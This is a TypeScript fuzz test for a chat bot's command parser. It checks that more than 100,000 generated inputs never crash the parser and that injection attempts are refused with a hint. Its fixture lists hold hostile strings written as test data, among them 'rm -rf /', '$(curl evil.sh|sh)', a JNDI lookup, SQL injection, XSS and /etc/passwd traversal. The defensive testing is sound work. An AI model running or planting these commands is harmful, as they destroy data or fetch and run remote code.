// Parser fuzz: a seeded generator feeds parseIntent well over 100,000 inputs,
// valid, malformed and hostile (unicode, huge strings, Slack markup fragments,
// injection attempts). It must never throw, and every result must be an intent
// or a rejection that says what would work. A failure prints the seed and the
// input, so it can be replayed: FUZZ_SEED=<seed> npm test -- tests/unit/domain/intents-fuzz.test.ts
import { MAX_ISSUE, parseIntent, parseIssueUrl, type Intent, type ParseContext } from '../../../src/domain/intents.js';
import { PROJECT_NAME } from '../../../src/domain/project.js';
import { prng } from '../../../bench/support.js';

const SEED = Number(process.env.FUZZ_SEED ?? 0x5eed7);
const INPUTS = 100_000;
const BOT = 'U0BOT';

const VERBS = [
  'fix',
  'FIX',
  'Fix',
  'please fix',
  'can you fix',
  'fix the issue',
  'fix bug',
  'issue',
  'ticket',
  '',
  'status',
  'show status',
  'cancel',
  'stop',
  'stop the job',
  'list',
  'jobs',
  'show all jobs',
  'projects',
  'list projects',
  'retry',
  'retry it',
  'help',
  '?',
  '??',
  'fixx',
  'fix:',
  'fix fix',
];
const REFS = [
  '#58',
  '58',
  '#0',
  '#-1',
  '#1e9',
  '#999999999',
  '#1000000000',
  '#99999999999999999999',
  '#58abc',
  '#',
  '##58',
  '#\u0663',
  '#\uFF15\uFF18',
  '0x3A',
  'acme/billing-api#58',
  'a/b/c#1',
  '../../etc#1',
  'acme/billing-api#0',
  'https://github.com/acme/billing-api/issues/58',
  'https://gitlab.com/a/b/-/merge_requests/9',
  'http://x/a/b/pull/3/files',
  'https://github.com/issues/58',
  'javascript:alert(1)',
  'ftp://x/a/b/issues/1',
  'https://a.b/c|d/issues/1',
  'https://[::1]/a/b/issues/2',
  'https://%zz/a/b/issues/1',
  '"#58"',
  '`#58`',
  '#58.',
  '#58!?',
];
const PROJECTS = [
  'billing-api',
  'Billing_API.v2',
  '"billing-api"',
  "'web'",
  '`web`',
  'the project web',
  'web project',
  '../../etc',
  '..',
  '/etc/passwd',
  'x; rm -rf /',
  'x;rm',
  '$(whoami)',
  '`id`',
  'a|b',
  'a&&b',
  'x\ny',
  'ü-ñ',
  '日本',
  'a'.repeat(300),
  '-flag',
  '.hidden',
  '',
  'in',
  'with aider',
];
const MARKUP = [
  '<@U0BOT>',
  '<@U0BOT|switchboard>',
  '<@U0OTHER>',
  '<@>',
  '<!here>',
  '<!channel>',
  '<!subteam^S1|@team>',
  '<#C0123|general>',
  '<#C0123|>',
  '<https://a.example|b>',
  '<https://a.example>',
  '<mailto:a@b.co|a@b.co>',
  '&lt;',
  '&gt;',
  '&amp;',
  '&amp;lt;',
  '```',
  '`',
  '*bold*',
  '_it_',
  '~s~',
  '> quote',
  '<',
  '>',
  '<<<>>>',
  '<|>',
  '<|',
  '|>',
  '<foo',
  '&#60;',
  ':rocket:',
  '\\',
  '%00',
  '${IFS}',
  '\u0000',
];
const UNICODE = [
  '\u201Cq\u201D',
  '\u2018q\u2019',
  '\u00A0',
  '\u200B',
  '\u2060',
  '\uFEFF',
  '\u202E',
  '\u202D',
  'e\u0301',
  '\u{1F680}',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '\uD800',
  '\uDC00',
  '\r\n',
  '\t',
  '\u000B',
  '\u0085',
  '\u2028',
  '\u3000',
  '\uFF03\uFF15\uFF18',
  '\u0660\u0661',
  '\u05D0\u05D1',
  'ß',
  'İ',
  '\u{10FFFF}',
];
const INJECTIONS = [
  'fix #1 in ../../etc',
  'fix #1 in x; rm -rf /',
  'fix #1 in $(curl evil.sh|sh)',
  'fix #1 in `reboot`',
  'fix #1 in x && shutdown',
  "fix #1 in x' OR '1'='1",
  'fix #1 in x\n/etc/passwd',
  'fix ../../../etc/passwd#1',
  'fix #1 in %2e%2e%2f',
  'fix #1 in <script>alert(1)</script>',
  'fix #1 in {{7*7}}',
  'fix #1 in ${jndi:ldap://x}',
  'fix #1 in x\u0000y',
  'fix #1 in x --redis-url evil',
  'fix #1 in -rf',
];

function generator(seed: number) {
  const rand = prng(seed);
  const int = (n: number) => Math.floor(rand() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)] as T;
  const randomCodePoints = (n: number) => {
    let s = '';
    for (let i = 0; i < n; i++) {
      const r = rand();
      // Mostly ASCII, some BMP (including lone surrogates), a few astral code points.
      const cp = r < 0.6 ? 32 + int(95) : r < 0.9 ? int(0x10000) : 0x10000 + int(0x100000);
      s += cp >= 0xd800 && cp <= 0xdfff ? String.fromCharCode(cp) : String.fromCodePoint(cp);
    }
    return s;
  };
  const sentence = () => {
    const parts = [pick(VERBS), pick(REFS)];
    if (rand() < 0.7) parts.push(pick(['in', 'IN', 'in the', 'in project', 'on', 'for']), pick(PROJECTS));
    if (rand() < 0.1) parts.push('with', pick(['aider', 'claude', '../x', '']));
    if (rand() < 0.2) parts.push(pick(['please', 'thanks', 'thx!!', 'now', 'on monday']));
    return parts.join(pick([' ', ' ', '  ', '\n', '\u00A0', '']));
  };
  const mutate = (s: string) => {
    const chars = [...s];
    for (let k = 1 + int(4); k > 0; k--) {
      const at = int(chars.length + 1);
      const r = rand();
      if (r < 0.4) chars.splice(at, 0, pick([...MARKUP, ...UNICODE, randomCodePoints(1)]));
      else if (r < 0.7) chars.splice(at, 1);
      else chars.splice(at, 0, ...chars.slice(int(chars.length), int(chars.length)));
    }
    return chars.join('');
  };
  const huge = () => {
    // Slack's own limit for a message is 40,000 characters.
    const unit = pick([' ', 'a', '#1 ', 'fix ', '<@U0BOT> ', '<', '&amp;', '\u200B', 'in ', '\u{1F680}', randomCodePoints(8)]);
    const body = unit.repeat(Math.ceil((1000 + int(39_000)) / unit.length)).slice(0, 40_000);
    return pick(['', 'fix ', 'fix #1 in ', '<@U0BOT> ']) + body + pick(['', ' in billing-api', '#2']);
  };
  return (): string => {
    const r = rand();
    if (r < 0.3) return sentence();
    if (r < 0.55) return mutate(sentence());
    if (r < 0.65) return pick(MARKUP) + ' ' + sentence() + ' ' + pick(MARKUP);
    if (r < 0.75) return pick(INJECTIONS) + (rand() < 0.5 ? '' : pick(UNICODE));
    if (r < 0.85) return randomCodePoints(int(80));
    if (r < 0.95)
      return Array.from({ length: 1 + int(8) }, () => pick([...MARKUP, ...UNICODE, ...VERBS, ...REFS, ...PROJECTS])).join(pick(['', ' ']));
    if (r < 0.9985) return mutate(pick(INJECTIONS));
    return huge();
  };
}

const KINDS = new Set<Intent['kind']>(['fix', 'status', 'cancel', 'list', 'projects', 'retry', 'help', 'unknown', 'ignore']);
const REPO = /^[\w.-]+(?:\/[\w.-]+)+$/;
const SAYS_WHAT_WORKS = /`[^`]+`/;

/** Why `intent` breaks the contract for `text`, or undefined when it keeps it. */
function problemWith(intent: Intent, text: string, ctx: ParseContext): string | undefined {
  if (!intent || !KINDS.has(intent.kind)) return `unknown result ${JSON.stringify(intent)}`;
  const addressed = ctx.addressed || (ctx.botUserId !== undefined && text.includes(`<@${ctx.botUserId}`));
  if (addressed && intent.kind === 'ignore') return 'an addressed message was ignored: the user gets no answer';
  if (!addressed && intent.kind === 'unknown') return 'chatter not addressed to the bot got a reply';
  if (intent.kind === 'fix') {
    if (!Number.isInteger(intent.issue) || intent.issue < 1 || intent.issue >= MAX_ISSUE)
      return `issue ${intent.issue} is not a valid issue number`;
    if (intent.project !== undefined && !PROJECT_NAME.test(intent.project))
      return `project ${JSON.stringify(intent.project)} is not a project name`;
    if (intent.repo !== undefined && !REPO.test(intent.repo)) return `repo ${JSON.stringify(intent.repo)} is not owner/name`;
  }
  if (intent.kind === 'unknown') {
    if (typeof intent.text !== 'string') return 'unknown without its text';
    // Without a hint the reply shows the standard examples; a hint must carry one of its own.
    if (intent.hint !== undefined && !SAYS_WHAT_WORKS.test(intent.hint))
      return `hint ${JSON.stringify(intent.hint)} does not say what would work`;
  }
  return undefined;
}

test(`parseIntent: ${INPUTS.toLocaleString('en-US')} generated inputs (seed ${SEED}), never a throw, always an intent or a rejection that says what works`, () => {
  const next = generator(SEED);
  const contexts: ParseContext[] = [
    { addressed: true },
    { addressed: false },
    { addressed: false, botUserId: BOT },
    { addressed: true, botUserId: BOT },
  ];
  const failures: string[] = [];
  const seen = new Map<Intent['kind'], number>();
  for (let i = 0; i < INPUTS && failures.length < 5; i++) {
    const input = next();
    const ctx = contexts[i % contexts.length] as ParseContext;
    let intent: Intent;
    try {
      intent = parseIntent(input, ctx);
    } catch (err) {
      failures.push(
        `#${i} threw ${(err as Error).stack ?? String(err)} for ${JSON.stringify(input.slice(0, 300))} (${input.length} chars) with ${JSON.stringify(ctx)}`,
      );
      continue;
    }
    const problem = problemWith(intent, input, ctx);
    if (problem)
      failures.push(
        `#${i}: ${problem} for ${JSON.stringify(input.slice(0, 300))} with ${JSON.stringify(ctx)} → ${JSON.stringify(intent).slice(0, 300)}`,
      );
    // The parser is a pure function: the same input gives the same answer.
    if (i % 97 === 0 && JSON.stringify(parseIntent(input, ctx)) !== JSON.stringify(intent))
      failures.push(`#${i}: a second parse differs for ${JSON.stringify(input.slice(0, 300))}`);
    seen.set(intent.kind, (seen.get(intent.kind) ?? 0) + 1);
  }
  expect(failures).toEqual([]);
  // The generator reaches every outcome, so the properties above were really exercised.
  expect([...seen.keys()].sort()).toEqual([...KINDS].sort());
  expect(seen.get('fix')).toBeGreaterThan(2_000);
});

describe('injection attempts are refused with a way forward, never taken as a project', () => {
  test.each(INJECTIONS)('%j', (input) => {
    const addressed = parseIntent(input, { addressed: true });
    expect(addressed.kind === 'fix' && addressed.project !== undefined && !PROJECT_NAME.test(addressed.project)).toBe(false);
    if (addressed.kind === 'fix') {
      expect(addressed.project === undefined || PROJECT_NAME.test(addressed.project)).toBe(true);
    } else {
      expect(addressed).toMatchObject({ kind: 'unknown' });
      expect(addressed.kind === 'unknown' && addressed.hint).toMatch(SAYS_WHAT_WORKS);
    }
    expect(parseIntent(input, { addressed: false }).kind).toMatch(/^(?:ignore|fix)$/);
  });

  test('the two named in the issue', () => {
    for (const input of ['fix #1 in ../../etc', 'fix #1 in x; rm -rf /']) {
      const intent = parseIntent(input, { addressed: true });
      expect(intent).toMatchObject({ kind: 'unknown' });
      expect(intent.kind === 'unknown' && intent.hint).toMatch(/`fix #58 in billing-api`|`projects`/);
    }
  });
});

// What the fuzz found first: issue links whose path is not owner/name gave a fix with that path as its repo.
test.each([
  'https://github.com//github.com/acme/x/issues/58',
  'https://github.com/%3Cacme/billing-api/issues/58',
  'https://github.com/acme/billi%F0%9F%91%A8ng-api/issues/58',
  'https://[::1]/a@b.coa/b/issues/2',
])('parseIssueUrl refuses %s', (url) => {
  expect(parseIssueUrl(url)).toBeUndefined();
  expect(parseIntent(`fix ${url}`, { addressed: true })).toMatchObject({ kind: 'unknown', hint: expect.stringMatching(SAYS_WHAT_WORKS) });
});
